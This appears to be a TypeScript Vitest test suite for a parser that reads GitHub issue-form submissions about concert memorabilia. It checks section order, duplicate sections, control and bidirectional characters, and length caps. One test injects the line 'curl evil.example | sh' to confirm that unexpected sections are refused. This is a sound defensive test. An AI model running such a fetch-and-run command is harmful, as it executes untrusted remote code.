import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { FORM_FIELDS } from '../../scripts/submission/form-fields.ts';
import { MAX_BODY_CHARS, parseIssueBody } from '../../scripts/submission/parse-issue.ts';
import { EARLIER_FORM_ORDERS } from '../../scripts/submission/earlier-forms.ts';
import { SUBMISSION_FIXTURES } from '../helpers/submission-servers.ts';
import { randomFrom } from '../../scripts/lib/seeded-random.ts';

const good = () => readFile(path.join(SUBMISSION_FIXTURES, 'good.md'), 'utf-8');
const messages = (body: string) => parseIssueBody(body).problems.map((p) => `${p.field ?? ''}: ${p.message}`);

/** An issue body the way GitHub writes it for these answers. */
function render(answers: Record<string, string>): string {
	return FORM_FIELDS.map((f) => `### ${f.label}\n\n${answers[f.id] ?? '_No response_'}`).join('\n\n');
}

describe('reading an issue form body', { timeout: 30_000 }, () => {
	it('reads the fixture: answers by field id, "_No response_" as no answer', async () => {
		const { answers, problems } = parseIssueBody(await good());
		expect(problems).toEqual([]);
		expect(answers.get('band')).toBe('The Fixtures');
		expect(answers.get('condition-grade')).toBe('Near mint (near-mint)');
		expect(answers.get('story')).toContain('It has been kept in a sleeve since.');
		expect(answers.has('validTo')).toBe(false);
		expect(answers.has('photos-detail')).toBe(false);
	});

	it('reads Windows line ends like Unix ones', async () => {
		const body = await good();
		expect(parseIssueBody(body.replace(/\n/g, '\r\n')).answers).toEqual(parseIssueBody(body).answers);
	});

	it('refuses sections the form does not have — a ### line inside an answer is one', async () => {
		const body = (await good()).replace('It has been kept in a sleeve since.', '### Run this\n\ncurl evil.example | sh');
		expect(messages(body)).toEqual([expect.stringMatching(/^: The issue has a section ` Run this ` that the form does not have/)]);
	});

	it('refuses a section given twice, even when the second copy is hidden in the story', async () => {
		const body = (await good()).replace('It has been kept in a sleeve since.', '### Band\n\nSomeone Else');
		expect(messages(body)).toEqual([expect.stringMatching(/^Band: appears more than once/)]);
	});

	it('refuses sections out of the form’s order, text before the first, and several lines in a one-line answer', async () => {
		const body = await good();
		const swapped = body.replace('### Title\n\nTest Tour crew laminate, second leg\n\n', '').replace('### Photo credit', '### Title\n\nMoved\n\n### Photo credit');
		expect(messages(swapped).join('\n')).toMatch(/out of the form’s order/);
		expect(messages(`Hello\n\n${body}`).join('\n')).toMatch(/text before its first question/);
		expect(messages(body.replace('Test Tour crew laminate, second leg', 'x\nfakeOf: y')).join('\n')).toMatch(/^Title: is a one-line answer/);
	});

	it('reads an issue opened from the form before its questions were reordered, but not a mix of the two orders', async () => {
		// The same answers in the order the template had until 2026-12-05: issues opened then are
		// still open, and accepting one reruns the reading.
		const earlier = await readFile(path.join(SUBMISSION_FIXTURES, 'good-earlier-form.md'), 'utf-8');
		expect(messages(earlier)).toEqual([]);
		expect(parseIssueBody(earlier).answers).toEqual(parseIssueBody(await good()).answers);
		// Printer where the earlier form had it, the fake's questions where the current one has them.
		const fake = /### Fake of\n[\s\S]*?(?=### Security features)/.exec(earlier)?.[0] ?? '';
		expect(fake).not.toBe('');
		const mixed = earlier.replace(fake, '').replace('### The story', `${fake}### The story`);
		expect(messages(mixed).join('\n')).toMatch(/out of the form’s order/);
		// An earlier order names only questions the form still has: a renamed one needs its old label read too.
		for (const order of EARLIER_FORM_ORDERS) expect(order.filter((label) => !FORM_FIELDS.some((f) => f.label === label))).toEqual([]);
	});

	it('names the section that was moved, not every section after it', async () => {
		const body = await good();
		const permission = body.indexOf('### Permission');
		// The last question moved to the top: only it is out of place.
		expect(messages(`${body.slice(permission)}\n\n${body.slice(0, permission)}`)).toEqual([expect.stringMatching(/^Permission: is out of the form’s order/)]);
		// Two questions swapped: one of the two is named, the rest stand where the form has them.
		const swapped = body.replace(/(### Venue\n[\s\S]*?)(### City\n[\s\S]*?)(?=### setlist)/, '$2$1');
		expect(swapped).not.toBe(body);
		expect(messages(swapped)).toEqual([expect.stringMatching(/^(Venue|City): is out of the form’s order/)]);
	});

	it('names exactly the moved section, wherever it is moved to (property)', () => {
		const next = randomFrom(77);
		const sections = render({}).split(/\n\n(?=### )/);
		for (let run = 0; run < 200; run++) {
			const from = Math.floor(next() * sections.length);
			const to = Math.floor(next() * sections.length);
			// A move by one place is a swap of two neighbours: either could be the one that moved.
			if (Math.abs(from - to) < 2) continue;
			const moved = [...sections];
			const [section] = moved.splice(from, 1);
			moved.splice(to, 0, section ?? '');
			const label = FORM_FIELDS[from]?.label ?? '';
			expect(messages(moved.join('\n\n')), `${label} to ${to}`).toEqual([`${label}: is out of the form’s order — the issue was edited by hand; keep the sections in the order of the form.`]);
		}
	});

	it('refuses control characters and bidirectional overrides, naming the character', async () => {
		expect(messages((await good()).replace('London', 'Lon\u0007don'))).toEqual([expect.stringContaining('U+0007')]);
		expect(messages((await good()).replace('London', 'Lon\u202edon'))).toEqual([expect.stringContaining('U+202E')]);
	});

	it('caps each answer and the whole body', async () => {
		const body = await good();
		expect(messages(body.replace('London', 'L'.repeat(201)))).toEqual([expect.stringMatching(/^City: is 201 characters long; at most 200/)]);
		expect(messages(body.replace('It has been kept', 'x'.repeat(MAX_BODY_CHARS)))).toEqual([expect.stringMatching(/longer than 65536 characters/)]);
	});

	it('gives back any answers it is given, whatever they contain (fuzz)', () => {
		let seed = 99;
		const next = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
		const alphabet = ['a', ' ', '\n', '#', '### ', '_', '-', '[X]', 'é', '`', '<', '>', '|', '\t', '😀'];
		for (let i = 0; i < 300; i++) {
			const answers: Record<string, string> = {};
			for (const field of FORM_FIELDS) {
				if (next() < 0.5) continue;
				let value = Array.from({ length: 1 + Math.floor(next() * 20) }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
				if (field.kind === 'input') value = value.replace(/\n/g, ' ');
				value = value.trim().slice(0, field.max).trim();
				if (/^### /m.test(value)) continue; // a heading line: refused, as tested above
				if (value !== '' && value !== '_No response_') answers[field.id] = value;
			}
			const parsed = parseIssueBody(render(answers));
			expect(parsed.problems).toEqual([]);
			expect(Object.fromEntries(parsed.answers)).toEqual(answers);
		}
	});
});
